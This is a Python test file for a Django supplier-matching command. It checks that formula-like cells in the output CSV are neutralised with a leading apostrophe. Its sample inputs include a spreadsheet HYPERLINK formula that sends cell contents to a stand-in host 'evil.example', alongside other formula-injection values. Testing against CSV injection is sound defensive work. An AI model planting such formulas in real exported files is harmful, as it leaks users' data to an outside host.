"""`imvo match --out`: the result CSV repeats the input columns as received, so a
cell that a spreadsheet would run as a formula is neutralised there too (T23)."""

from __future__ import annotations

import csv
from pathlib import Path

from django.core.management import call_command

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1)', "@SUM(1+1)", "+31 20 555 0000", "-2+3"]


def test_result_csv_holds_no_formula_from_the_supplier_list(tmp_path: Path) -> None:
    registry = tmp_path / "registry.csv"
    registry.write_text(
        "id,name,address,country\nOS-1,Chen Feng Apparel,NO.99 Jinhu Road Jintan,CN\n"
    )
    supplier_list = tmp_path / "list.csv"
    with supplier_list.open("w", newline="") as fh:
        w = csv.writer(fh)
        w.writerow(["name", "address", "country", "note"])
        w.writerow(["Chen Feng Apparel", "NO.99 Jinhu Road Jintan", "CN", HOSTILE[0]])
        w.writerow([HOSTILE[0], "Road 1", "CN", HOSTILE[1]])
        w.writerow(["Mill", HOSTILE[2], "BD", HOSTILE[3]])
    out = tmp_path / "result.csv"
    call_command("match", str(supplier_list), registry=str(registry), out=str(out))
    cells = [c for row in csv.reader(out.open(encoding="utf-8")) for c in row]
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
    # The values are kept, behind the apostrophe a spreadsheet does not show.
    for value in HOSTILE:
        assert "'" + value in cells
    rows = list(csv.DictReader(out.open(encoding="utf-8")))
    assert rows[0]["facility_id"] == "OS-1" and rows[1]["status"] == "invalid"
